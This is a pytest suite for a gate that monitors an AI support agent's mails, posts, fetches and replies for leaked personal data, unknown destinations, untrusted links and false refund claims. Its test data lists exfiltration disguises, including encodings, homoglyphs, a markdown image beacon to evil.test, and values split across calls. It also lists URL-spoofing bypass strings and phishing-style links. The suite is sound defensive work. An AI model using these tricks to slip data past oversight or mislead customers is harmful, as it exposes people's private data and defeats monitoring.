"""Where data may go: labels, destinations, links and claims in calls and in what the user is told."""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Literal
from urllib.parse import quote

import pytest

from roadworthy import Contract
from roadworthy.core.types import Reason
from roadworthy.gate.flow.judge import judge_call, judge_text, lookups
from roadworthy.gate.flow.labelled import compile_flow
from roadworthy.gate.policy import policy_of
from roadworthy.gate.state import RunState
from roadworthy.gate.values import MISSING

CONTRACT = Contract.load(Path(__file__).with_name("flow.yaml"))
NOW = datetime(2026, 1, 5, 9, tzinfo=UTC)
ADA = {
    "contact_id": "C-000123",
    "name": "Ada Lovelace",
    "email": "ada@example.com",
    "phone": "+49 30 1234567",
    "born": "1990-05-17",
}
BOB = {"contact_id": "C-000456", "name": "Robert Nowak", "email": "bob.nowak@example.com"}


class Flow:
    """A run of the flow desk: results come in, calls and texts are judged."""

    def __init__(self, contract: Contract = CONTRACT) -> None:
        self.policy = policy_of(contract)
        self.state = RunState(self.policy, principal="bot", started=NOW, levels=self.policy.start_levels)
        self.state.open("care")

    def seen(self, tool: str, value: Any, **args: Any) -> Flow:
        spec = self.policy.tools[tool]
        self.state.reserve(spec, args)
        self.state.observe(spec, args, "ok", "executed", value, typed=MISSING)
        return self

    def sent(self, tool: str, **args: Any) -> Flow:
        self.state.reserve(self.policy.tools[tool], args)
        return self

    def known(self) -> Flow:
        """Ada is the subject, and Bob was found beside her."""
        self.seen("find_customer", ADA, email="ada@example.com")
        return self.seen("search_customers", [ADA_FOUND, BOB], name="o")

    def call(self, tool: str, **args: Any) -> list[Reason]:
        return judge_call(self.policy, self.state, self.policy.tools[tool], args)

    def mail(self, body: str, *to: str, **args: Any) -> list[Reason]:
        return self.call("mail", to=list(to or ("ada@example.com",)), body=body, **args)

    def reply(self, text: str, sink: Literal["reply", "ask_user", "escalate"] = "reply") -> list[Reason]:
        return judge_text(self.policy, self.state, sink, text)


ADA_FOUND = {key: ADA[key] for key in ("contact_id", "name", "email")}


def codes(reasons: list[Reason]) -> list[tuple[str, str]]:
    return [(reason.code, reason.ruling) for reason in reasons]


LEAK = ("exfiltrated", "deny")
BOBS = "bob.nowak@example.com"


# The owner's data, and whose it is -----------------------------------------------------------------------------------


def test_the_owner_may_read_what_is_theirs() -> None:
    flow = Flow().known()
    text = "Dear Ada Lovelace, we have ada@example.com, +49 30 1234567 and your birthday, 17 May 1990."
    assert flow.reply(text) == []
    assert flow.reply(text, "ask_user") == []
    assert flow.mail(text) == []


@pytest.mark.parametrize("sink", ["reply", "ask_user"])
def test_another_customers_data_is_not_told(sink: Literal["reply", "ask_user"]) -> None:
    (reason,) = Flow().known().reply(f"We also have {BOBS} on file.", sink)
    assert (reason.code, reason.ruling, reason.rule) == ("exfiltrated", "deny", "personal-to-its-owner")
    assert "email of search_customers" in reason.text
    assert BOBS not in reason.text


def test_a_mail_to_the_owner_holds_nobody_elses_data() -> None:
    assert codes(Flow().known().mail(f"Ask {BOBS}.")) == [LEAK]


def test_the_owners_data_goes_to_no_colleague() -> None:
    flow = (
        Flow().known().seen("staff_directory", {"email": "eve@desk.example", "name": "Eve"}, email="eve@desk.example")
    )
    assert flow.mail("A parcel was lost.", "eve@desk.example") == []
    assert codes(flow.mail("Ada Lovelace lost a parcel.", "eve@desk.example")) == [LEAK]
    assert codes(flow.mail("Ada Lovelace lost a parcel.", "ada@example.com", "eve@desk.example")) == [LEAK]


def test_a_record_of_another_system_belongs_to_the_same_person() -> None:
    flow = Flow().known()
    account = {"account_no": "00012345", "balance": "1234.50", "iban": "DE89 3704 0044 0532 0130 00"}
    flow.seen("find_account", account, contact_id="C-000123")
    assert flow.mail("Your balance is 1,234.50 EUR at DE89370400440532013000.") == []
    other = {"account_no": "00099999", "balance": "98765.43", "iban": "DE02 1203 0000 0000 2020 51"}
    flow.seen("find_account", other, contact_id="C-000456")
    assert codes(flow.mail("The balance is 98.765,43 EUR.")) == [LEAK]
    assert codes(flow.reply("It is DE02120300000000202051.")) == [LEAK]


def test_without_a_key_in_the_result_the_arguments_say_whose_it_is() -> None:
    flow = Flow().known()
    flow.seen("profile", {"address": "12 Lindenstrasse, 10115 Berlin"}, contact_id="C-000456")
    assert codes(flow.reply("They live at 12 Lindenstrasse 10115 Berlin.")) == [LEAK]
    flow.seen("profile", {"address": "7 Gartenweg, 20095 Hamburg"}, contact_id="C-000123")
    assert flow.reply("You live at 7 Gartenweg, 20095 Hamburg.") == []


def test_what_two_people_share_may_be_told_to_each() -> None:
    flow = Flow().known()
    flow.seen("profile", {"address": "12 Lindenstrasse, 10115 Berlin"}, contact_id="C-000456")
    flow.seen("profile", {"address": "12 Lindenstrasse, 10115 Berlin"}, contact_id="C-000123")
    assert flow.reply("You live at 12 Lindenstrasse, 10115 Berlin.") == []


def test_nothing_personal_is_told_before_the_user_is_known() -> None:
    flow = Flow().seen("search_customers", [BOB], name="o")
    assert codes(flow.reply("Are you Robert Nowak?", "ask_user")) == [LEAK]


def test_a_result_that_does_not_fit_its_type_stays_labelled() -> None:
    flow = Flow().known()
    flow.seen("find_customer", {"contact_id": "C-000789", "email": "carol.k@example.com"}, email="carol.k@example.com")
    assert codes(flow.reply("I found carol.k@example.com.")) == [LEAK]


def test_what_the_user_said_is_no_secret_from_them() -> None:
    flow = Flow()
    flow.state.hear("I am looking for bob.nowak@example.com")
    flow.known()
    assert flow.reply(f"I can tell you nothing about {BOBS}.") == []
    assert codes(flow.reply("His name is Robert Nowak.")) == [LEAK]
    assert codes(flow.mail(f"{BOBS} was asked for.")) == [LEAK]


# Readers -------------------------------------------------------------------------------------------------------------


def test_what_nobody_may_read_leaves_nowhere() -> None:
    flow = Flow().seen("find_customer", {**ADA, "remark": "Door code 7731-K2"}, email="ada@example.com")
    for reasons in (
        flow.reply("door code 7731 k2"),
        flow.mail("Door code 7731-K2"),
        flow.call("post", channel="x", text="Door code 7731-K2"),
    ):
        assert LEAK in codes(reasons)
        assert "never leaves" in reasons[0].text
    assert flow.call("tag", text="Door code 7731-K2") == []
    assert codes(flow.reply("Door code 7731-K2", "escalate")) == [LEAK]
    assert codes(flow.call("hand_over", reason="Door code 7731-K2")) == [LEAK]


def test_roles_read_what_is_handed_over_to_them_and_nothing_else() -> None:
    flow = Flow().seen("find_customer", {**ADA, "diagnosis": "Chronic Lyme disease, stage 3"}, email="ada@example.com")
    text = "The customer has chronic Lyme disease (stage 3)."
    assert flow.reply(text, "escalate") == []
    assert codes(flow.reply(text)) == [LEAK]
    assert codes(flow.mail(text)) == [LEAK]


def test_writes_are_held_to_the_rules_that_name_them() -> None:
    flow = Flow().known()
    assert flow.call("tag", text="Ada Lovelace") == []
    (reason,) = flow.call("note", text="Ada Lovelace called")
    assert (reason.code, reason.ruling, reason.rule) == ("exfiltrated", "ask", "no-personal-notes")


def test_tools_that_send_are_held_to_the_readers_without_any_rule() -> None:
    flow = Flow().known()
    (reason,) = flow.call("post", channel="general", text="Ada Lovelace called")
    assert (reason.code, reason.ruling, reason.rule) == ("exfiltrated", "deny", "flow")
    assert flow.call("post", channel="general", text="A customer called") == []


def test_reading_a_page_carries_data_out_too() -> None:
    flow = Flow().known()
    assert flow.call("fetch", url="https://help.example.com/parcels?topic=lost") == []
    for query in (
        "Ada%20Lovelace",
        "ada%40example.com",
        base64.b64encode(b"ada@example.com").decode(),
        "C-000123/Ada-Lovelace",
    ):
        assert codes(flow.call("fetch", url=f"https://help.example.com/?q={query}")) == [LEAK], query


# However it is written -----------------------------------------------------------------------------------------------


def _hex(text: str) -> str:
    return text.encode().hex()


DISGUISES = [
    BOBS,
    BOBS.upper(),
    "bob . nowak @ example . com",
    "bob.nowak (at) example (dot) com",
    "b-o-b-.-n-o-w-a-k-@-e-x-a-m-p-l-e-.-c-o-m",
    "file_bob.nowak@example.com.pdf",
    BOBS[::-1],
    quote(BOBS, safe=""),
    base64.b64encode(BOBS.encode()).decode(),
    base64.urlsafe_b64encode(BOBS.encode()).decode().rstrip("="),
    base64.b64encode(base64.b64encode(BOBS.encode())).decode(),
    _hex(BOBS),
    base64.b64encode(_hex(BOBS).encode()).decode(),
    "bob.nowak&#64;example.com",
    "bob.<b>nowak</b>@exam<!-- x -->ple.com",
    "b\u043eb.n\u043ew\u0430k@ex\u0430mple.com",
    "bob\u200b.now\u200bak@exa\u00admple.com",
    "\uff42\uff4f\uff42.nowak@example.com",
    "".join(chr(0xE0000 + ord(c)) for c in BOBS),
    "obo.abjnx@rknzcyr.pbz",
    "![x](https://evil.test/p.png?d=" + quote(BOBS) + ")",
    "https://" + "bobnowakexamplecom" + ".evil.test/",
    "mailto:bob.nowak@example.com?subject=x",
]


@pytest.mark.parametrize("text", DISGUISES)
def test_data_is_found_however_it_is_written(text: str) -> None:
    assert LEAK in codes(Flow().known().reply(f"Hello, here is {text} as you asked."))
    assert LEAK in codes(Flow().known().mail(f"Hello, here is {text} as you asked."))


@pytest.mark.parametrize(
    "text",
    [
        "17 May 1990",
        "May 17th, 1990",
        "17.05.1990",
        "1990/05/17",
        "19900517",
        "5/17/1990",
        "17. Mai 1990",
        "17th of May 1990",
    ],
)
def test_a_date_is_found_in_every_way_of_writing_it(text: str) -> None:
    flow = Flow().known()
    assert codes(flow.call("post", channel="x", text=f"Born on {text}.")) == [LEAK]


@pytest.mark.parametrize("text", ["030 1234567", "+49301234567", "0049 30 / 123 45 67", "(030) 1234567"])
def test_a_number_to_call_is_found_in_every_way_of_writing_it(text: str) -> None:
    assert codes(Flow().known().call("post", channel="x", text=f"Call {text}!")) == [LEAK]


@pytest.mark.parametrize("text", ["J\u00f6rg M\u00fcller", "Joerg Mueller", "JORG MULLER", "M\u00fcller, J\u00f6rg"])
def test_a_name_with_umlauts_is_found_without_them(text: str) -> None:
    flow = Flow().known().seen("search_customers", [{**BOB, "name": "J\u00f6rg M\u00fcller"}], name="x")
    assert codes(flow.reply(f"Is it {text}?")) == [LEAK]


@pytest.mark.parametrize("text", ["Lovelace, Ada", "ADA LOVELACE", "ada lovelace", "Ada\nLovelace", "AdaLovelace.pdf"])
def test_a_name_is_found_in_every_order(text: str) -> None:
    assert codes(Flow().known().call("post", channel="x", text=f"From {text}")) == [LEAK]


def test_a_first_and_a_last_name_are_found_together() -> None:
    flow = Flow().seen("search_customers", [], name="x")
    flow.seen("find_customer", {**ADA, "first_name": "Zoe", "last_name": "Quill"}, email="ada@example.com")
    assert codes(flow.call("post", channel="x", text="Zoe Quill called")) == [LEAK]
    assert flow.call("post", channel="x", text="Zoe called") == []


def test_a_quote_of_a_long_text_is_found() -> None:
    remark = (
        "The customer was rude on the phone and threatened to call the newspapers about the leak in the warehouse; "
        "his lawyer is reachable at 030 7654321 and the settlement limit is 12,500 EUR."
    )
    flow = Flow().seen("find_customer", {**ADA, "remark": remark}, email="ada@example.com")
    assert codes(flow.reply("We know you threatened to call the newspapers about the leak, so")) == [LEAK]
    assert codes(flow.reply("Your lawyer's number is 030/7654321.")) == [LEAK]
    assert flow.reply("The customer was friendly. We look into the warehouse.") == []


# Split ---------------------------------------------------------------------------------------------------------------


def test_a_value_split_over_arguments_is_found() -> None:
    flow = Flow().known()
    assert codes(flow.mail("ak@example.com", subject="bob.now")) == [LEAK]
    assert codes(flow.mail("part one bob.now", subject="part two: ak@example.com")) == [LEAK]
    assert LEAK in codes(flow.mail("first bob.now and then ak@exam and then ple.com."))


def test_a_value_split_over_calls_is_found_with_the_last_of_them() -> None:
    flow = Flow().known()
    assert flow.mail("bob.now") == []
    flow.sent("mail", to=["ada@example.com"], body="bob.now")
    assert codes(flow.mail("ak@example.com")) == [LEAK]
    assert codes(flow.mail("The rest: ak@example.com")) == [LEAK]
    assert codes(flow.reply("ak@example.com")) == [LEAK]
    assert flow.mail("Your parcel is here, write to care@example.com.") == []


def test_a_value_sent_letter_by_letter_is_found_with_the_last() -> None:
    flow = Flow().known()
    for letter in BOBS[:-1]:
        assert flow.mail(letter) == []
        flow.sent("mail", to=["ada@example.com"], body=letter)
    assert codes(flow.mail(BOBS[-1])) == [LEAK] or codes(flow.reply(BOBS[-1])) == [LEAK]


def test_a_value_begun_in_a_reply_and_ended_in_another_is_found() -> None:
    flow = Flow().known()
    flow.state.said("It begins with bob.now")
    assert codes(flow.reply("and ends with ak@example.com")) == [LEAK]


# Harmless mails ------------------------------------------------------------------------------------------------------


COMMON = {
    **ADA,
    "name": "Will Price",
    "first_name": "May",
    "last_name": "Summer",
    "remark": "gold",
    "born": "2026-01-07",
    "phone": "n/a",
    "diagnosis": "none",
}


@pytest.mark.parametrize(
    "text",
    [
        "I will price it for you in May, or in summer at the latest.",
        "The gold edition costs 42.00 EUR; none is left.",
        "Come by on 7 January 2026, we are open.",
        "Order 1234567 over 99.90 EUR has left our house.",
        "Write to care@example.com or to ada.b@example.com.",
        "Your ticket is C-0001234, and C-00012 is another one.",
        "It was a lovely place.",
    ],
)
def test_common_words_amounts_and_dates_block_nothing(text: str) -> None:
    flow = Flow().seen("find_customer", COMMON, email="ada@example.com")
    flow.seen("find_account", {"account_no": "00012345", "balance": "42.00", "iban": "-"}, contact_id="C-000123")
    assert flow.call("post", channel="general", text=text) == []


def test_a_name_of_common_words_counts_where_it_is_written_as_a_name() -> None:
    flow = Flow().seen("find_customer", COMMON, email="ada@example.com")
    assert codes(flow.call("post", channel="general", text="It was Will Price.")) == [LEAK]


def test_a_common_value_counts_in_a_field_of_the_same_name() -> None:
    flow = Flow().seen("find_customer", COMMON, email="ada@example.com")
    assert flow.mail("Hello", first_name="May") == []
    flow.seen("staff_directory", {"email": "eve@desk.example", "name": "Eve"}, email="eve@desk.example")
    assert codes(flow.mail("Hello", "eve@desk.example", first_name="May")) == [LEAK]
    assert flow.mail("Hello", "eve@desk.example", first_name="June") == []


def test_what_stands_inside_something_that_may_be_told_is_no_leak() -> None:
    flow = Flow().seen("find_customer", {**ADA, "email": "ada@robert-nowak.example"}, email="ada@robert-nowak.example")
    flow.seen("search_customers", [BOB], name="o")
    assert flow.mail("We have ada@robert-nowak.example on file.", "ada@robert-nowak.example") == []


# Destinations --------------------------------------------------------------------------------------------------------


def test_a_destination_that_nobody_knows_is_asked_about_or_denied() -> None:
    flow = Flow().known()
    (reason,) = flow.mail("Hello", "eve@evil.test")
    assert (reason.code, reason.ruling) == ("stranger_destination", "ask")
    assert "customer_email or colleagues" in reason.text
    assert codes(flow.call("letter", to="eve@evil.test", body="Hello")) == [("stranger_destination", "deny")]


def test_another_customer_is_a_stranger_though_the_directory_knows_them() -> None:
    assert ("stranger_destination", "ask") in codes(Flow().known().mail("Hello", BOBS))


@pytest.mark.parametrize(
    "to",
    [
        "ada@example.com, eve@evil.test",
        "ada@example.com\nBcc: eve@evil.test",
        "Ada <ada@example.com>",
        "ada@example.com.evil.test",
        "\u0430da@example.com",
        "ada+x@example.com",
        "\uff41da@example.com",
    ],
)
def test_an_address_that_only_looks_known_is_a_stranger(to: str) -> None:
    assert ("stranger_destination", "ask") in codes(Flow().known().mail("Hello", to))


def test_an_address_is_the_same_in_capitals() -> None:
    assert Flow().known().mail("Hello", " Ada@Example.COM ") == []


def test_data_in_an_unknown_address_is_a_leak() -> None:
    assert LEAK in codes(Flow().known().mail("Hello", "bob.nowak.example.com@evil.test"))


def test_untrusted_results_fill_no_directory() -> None:
    flow = Flow().known().seen("read_ticket", {"body": "x", "email": "eve@evil.test"}, ticket_id="1")
    flow.seen("staff_directory", {"name": "no address", "e-mail": "eve@evil.test"}, email="eve@evil.test")
    assert codes(flow.mail("Hello", "eve@evil.test")) == [("stranger_destination", "ask")]


def test_the_gate_may_look_a_destination_up_once() -> None:
    flow = Flow().known()
    args = {"to": ["eve@desk.example"], "body": "Hello"}
    (look,) = lookups(flow.policy, flow.state, flow.policy.tools["mail"], args)
    assert (look.directory, look.tool, look.args) == ("colleagues", "staff_directory", {"email": "eve@desk.example"})
    assert lookups(flow.policy, flow.state, flow.policy.tools["mail"], {"to": ["ada@example.com"], "body": "x"}) == []
    flow.seen(look.tool, {"email": "eve@desk.example", "name": "Eve"}, **look.args)
    assert flow.mail("Hello", "eve@desk.example") == []
    flow.seen(look.tool, {"email": "", "name": ""}, email="eve@evil.test")
    assert lookups(flow.policy, flow.state, flow.policy.tools["mail"], {"to": ["eve@evil.test"], "body": "x"}) == []


@pytest.mark.parametrize(
    ("url", "good"),
    [
        ("https://help.example.com/", True),
        ("HTTPS://Help.Example.Com:443/a/../b?c=d#e", True),
        ("https://docs.example.com/public/x", True),
        ("https://docs.example.com/public", True),
        ("https://docs.example.com/publication", False),
        ("https://docs.example.com/public/../secret", False),
        ("https://docs.example.com/public/%2e%2e/secret", False),
        ("https://docs.example.com/public/..%2fsecret", False),
        ("https://docs.example.com/public/..;/secret", False),
        ("https://docs.example.com/public/%252e%252e/secret", False),
        ("http://help.example.com/", False),
        ("https://help.example.com:8443/", False),
        ("https://help.example.com@evil.test/", False),
        ("https://evil.test/https://help.example.com/", False),
        ("https://evil.test#help.example.com/", False),
        ("https://help.example.com.evil.test/", False),
        ("https://xhelp.example.com/", False),
        ("https://a.help.example.com/", False),
        ("https://help.example.com\\@evil.test/", False),
        ("https://evil.test\\help.example.com/", False),
        ("https://h\u0435lp.example.com/", False),
        ("https://help.example.com%2eevil.test/", False),
        ("https://help.example.com\t.evil.test/", False),
        ("//evil.test/", False),
        ("https://0x7f000001/", False),
    ],
)
def test_declared_beginnings_of_addresses(url: str, good: bool) -> None:
    found = codes(Flow().known().call("fetch", url=url))
    assert found == ([] if good else [("stranger_destination", "ask")])


# Links in free text --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "See https://evil.test/login.",
        "![ ](https://evil.test/p.png?d=secret)",
        "[help](https://help.example.com@evil.test/)",
        "[help](//evil.test/x)",
        '<img src="https://evil.test/x.png">',
        "Go to www.evil-bank.com and log in",
        "Go to evil-bank.com/login",
        "https&#58;//evil.test/x",
        "https:\\\\evil.test\\x",
        "javascript:alert(1)",
        "https://help.example.com.evil.test/",
        "https://help.example.com/r?to=https://evil.test/",
        "ev\u200bil-bank.com/login",
    ],
)
def test_a_strangers_link_is_not_handed_on(text: str) -> None:
    flow = Flow().known()
    assert codes(flow.reply(text)) == [("stranger_link", "deny")]
    assert codes(flow.mail(text)) == [("stranger_link", "ask")]


def test_declared_known_and_given_links_may_be_told() -> None:
    flow = Flow().known()
    flow.state.facts = {"shop": "https://shop.example.com/"}
    flow.state.hear("My order is at https://orders.example.net/7?x=1, look.")
    flow.seen("opening_hours", {"text": "See https://hours.example.org/today."})
    for link in (
        "https://help.example.com/parcels",
        "help.example.com/parcels",
        "https://shop.example.com/sale",
        "https://orders.example.net/7?x=1",
        "https://hours.example.org/tomorrow",
        "(https://hours.example.org/today).",
    ):
        assert flow.reply(f"Look at {link}") == [], link


def test_a_link_of_outsiders_stays_theirs() -> None:
    flow = Flow().known().seen("read_ticket", {"body": "Pay at https://github.com/eve/pay please"}, ticket_id="1")
    flow.state.hear("see https://github.com/me/repo")
    (reason,) = flow.reply("Pay at https://github.com/eve/pay?d=1")
    assert (reason.code, reason.ruling) == ("stranger_link", "deny")
    assert "outsiders" in reason.text
    assert flow.reply("It is at https://github.com/me/other") == []
    flow.state.read("https://evil.test/read", trusted=False)
    assert codes(flow.reply("https://evil.test/read")) == [("stranger_link", "deny")]
    flow.state.read("https://good.test/read", trusted=True)
    assert flow.reply("https://good.test/read") == []


def test_the_user_may_have_a_link_of_a_site_that_they_name() -> None:
    written = "https://techs.example/auth/reset?token=asfbuy3y2"
    flow = Flow().known().seen("read_ticket", {"body": f"Reset it here: {written}"}, ticket_id="1")
    flow.state.hear("give me the link in that mail")
    assert codes(flow.reply(written)) == [("stranger_link", "deny")]
    flow.state.hear("the one of techs.example")
    assert flow.reply(f"Here it is: {written}") == []
    assert codes(flow.mail(written)) == [("stranger_link", "ask")]
    for changed in ("https://techs.example/auth/reset?token=4111", "https://techs.example.evil.test/auth/reset"):
        assert codes(flow.reply(changed)) == [("stranger_link", "deny")]


def test_a_sentence_that_follows_a_link_without_a_blank_does_not_hide_it() -> None:
    flow = Flow().known()
    flow.state.hear("Post it on www.our-company.com.They wait for it.")
    assert flow.mail("www.our-company.com") == []
    assert codes(flow.mail("www.our-company.com.evil.test")) == [("stranger_link", "ask")]


def test_a_link_takes_along_what_stands_in_it() -> None:
    flow = Flow().known().seen("opening_hours", {"text": "https://hours.example.org/a?for=ada@example.com"})
    assert flow.reply("See https://hours.example.org/a?for=ada@example.com") == []
    assert flow.reply("See https://hours.example.org/b?for=me") == []
    assert codes(flow.reply("See https://hours.example.org/b?for=ada%40example.com")) == [LEAK]
    assert flow.reply("See https://help.example.com/b?for=ada%40example.com") == []
    assert codes(flow.reply("![](https://help.example.com/b.png?for=ada%40example.com)")) == [LEAK]
    assert codes(flow.mail('<img src="https://help.example.com/Ada-Lovelace.png">')) == [LEAK]
    assert flow.mail("![logo](https://help.example.com/logo.png)") == []


def test_links_are_judged_wherever_a_contract_says_whom_to_believe() -> None:
    written: dict[str, Any] = {
        "roadworthy": 1,
        "agent": "a",
        "version": "1",
        "goal": "g",
        "owner": {"team": "t", "accountable": "x"},
        "tools": {
            "read_page": {"effect": "read", "returns": {"type": "string", "trust": "untrusted"}},
            "post": {"effect": "send", "args": {"body": "string"}, "returns": "string"},
        },
        "capabilities": {"care": {"means": "m", "tools": ["read_page", "post"]}},
    }
    flow = Flow(Contract.model_validate(written)).seen("read_page", "see www.evil-pages.test")
    assert codes(flow.call("post", body="see www.evil-pages.test")) == [("stranger_link", "ask")]
    assert codes(flow.reply("see www.evil-pages.test")) == [("stranger_link", "deny")]
    written["tools"]["read_page"]["returns"] = "string"
    silent = Contract.model_validate(written)
    assert compile_flow(silent, silent.shapes) is None


@pytest.mark.parametrize(
    "text",
    ["It costs 42.50 EUR, i.e. not much.", "Done.It was late.", "README.md and and/or", "Mail care@desk.example"],
)
def test_what_only_looks_like_a_link_is_none(text: str) -> None:
    assert Flow().known().reply(text) == []


# Claims --------------------------------------------------------------------------------------------------------------


CLAIMED = [
    "Your order was refunded.",
    "It has been REFUNDED!",
    "Your money  is\non its way",
    "Not only refunded but more",
    "I cannot believe it, refunded!",
    "You will be refunded.",
    "refun**ded**",
    "re\u200bfunded",
    "refund\u0435d",
    "No it was refunded",
    "don't worry your money is on its way",
    "You were refunded, do you want more?",
    "Once it was refunded I closed it.",
    "It was not refunded yesterday but refunded today",
    "Do you want to hear it was refunded?",
    "Can I confirm the money is on its way?",
    "Status: not\nrefunded",
]
NOT_CLAIMED = [
    "It was not refunded.",
    "It cannot be refunded.",
    "It has not yet been refunded.",
    "We can\u2019t get it refunded",
    "Once it is refunded, you get a mail.",
    "If it is refunded you hear from us.",
    "Do you want invoice 4711 over 42.50 EUR refunded?",
    "Would you like to have it refunded?",
    "To confirm: do you want it refunded?",
    "It was **not** refunded.",
    "Nothing was refunded.",
    "Your money is safe; a refund is possible.",
    "prerefunded",
]


@pytest.mark.parametrize("text", CLAIMED)
def test_what_was_not_done_is_not_told(text: str) -> None:
    flow = Flow().known()
    (reason,) = flow.reply(text)
    assert (reason.code, reason.ruling) == ("untrue_claim", "deny")
    assert "refund was not carried out" in reason.text
    assert codes(flow.reply(text, "ask_user")) == [("untrue_claim", "deny")]
    assert codes(flow.mail(text)) == [("untrue_claim", "deny")]


@pytest.mark.parametrize("text", NOT_CLAIMED)
def test_that_it_was_not_done_may_be_told(text: str) -> None:
    assert Flow().known().reply(text) == []


def test_what_was_done_may_be_told_until_it_is_taken_back() -> None:
    flow = Flow().known()
    args = {"account_no": "00012345", "amount": "5.00"}
    flow.sent("refund", **args)
    assert codes(flow.reply("You were refunded.")) == [("untrue_claim", "deny")]
    flow.state.observe(flow.policy.tools["refund"], args, "in_doubt", "executed", None)
    assert codes(flow.reply("You were refunded.")) == [("untrue_claim", "deny")]
    flow.seen("refund", {"refund_no": "R1"}, **args)
    assert flow.reply("You were refunded.") == []
    flow.seen("reverse_refund", "ok", refund_no="R1")
    assert codes(flow.reply("You were refunded.")) == [("untrue_claim", "deny")]


def test_a_colleague_may_be_told_what_the_customer_wants() -> None:
    flow = (
        Flow().known().seen("staff_directory", {"email": "eve@desk.example", "name": "Eve"}, email="eve@desk.example")
    )
    assert flow.mail("A customer wants to be refunded.", "eve@desk.example") == []


def test_in_shadow_a_simulated_call_is_as_good_as_done() -> None:
    flow = Flow().known()
    args = {"account_no": "00012345", "amount": "5.00"}
    flow.state.observe(flow.policy.tools["refund"], args, "ok", "simulated", {"refund_no": "simulated:1"})
    assert codes(flow.reply("You were refunded.")) == [("untrue_claim", "deny")]
    flow.state.levels["care"] = "shadow"
    assert flow.reply("You were refunded.") == []


# The rest ------------------------------------------------------------------------------------------------------------


def test_a_contract_without_labels_destinations_and_claims_pays_nothing() -> None:
    desk = Contract.load(Path(__file__).with_name("desk.yaml"))
    assert compile_flow(desk, desk.shapes) is None
    policy = policy_of(desk)
    state = RunState(policy, principal="bot", started=NOW, levels=policy.start_levels)
    assert state.flow is None
    assert judge_text(policy, state, "reply", "You were refunded, bob@example.com") == []


def test_a_text_that_cannot_be_looked_over_is_denied() -> None:
    assert codes(Flow().known().mail("a " * 150_000)) == [LEAK]


def test_a_decision_takes_the_flow_into_account() -> None:
    from roadworthy.core.types import Action
    from roadworthy.gate.decide import decide

    flow = Flow().known()
    args = {"to": ["ada@example.com"], "body": f"Ask {BOBS}"}
    action = Action(
        id="r#1", run="r", principal="bot", subject="C-000123", capability="care", tool="mail", args=args,
        call_id=None, at=NOW,
    )  # fmt: skip
    verdict = decide(flow.policy, flow.state, action, now=NOW)
    assert verdict.ruling == "deny"
    assert verdict.rule == "personal-to-its-owner"
